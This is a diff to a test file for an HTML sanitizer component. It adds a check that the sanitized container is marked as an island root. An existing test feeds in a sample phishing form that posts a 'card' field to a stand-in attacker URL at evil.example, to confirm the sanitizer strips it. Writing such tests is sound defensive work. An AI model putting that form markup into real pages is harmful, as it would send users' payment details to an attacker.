@@ -37,6 +37,13 @@ describe("SanitizedHtml", () => {
     expect(host.querySelector("a")?.getAttribute("href")).toBeNull();
   });
 
+  it("marks its container so that no island mounts on markers inside it", () => {
+    const host = render(`<div class="o_portal_signature_form">x</div>`);
+    const container = host.firstElementChild!;
+    expect(container.getAttribute("data-island-root")).toBe("sanitized-html");
+    expect(container.querySelector(".o_portal_signature_form")!.closest("[data-island-root]")).toBe(container);
+  });
+
   it("renders with the message profile by default", () => {
     const host = render(`<p>Pay here</p><form action="https://evil.example/steal"><input name="card"><button>Pay</button></form><img src="https://cdn.example/a.png">`);
     expect(host.querySelector("form, input, button")).toBeNull();
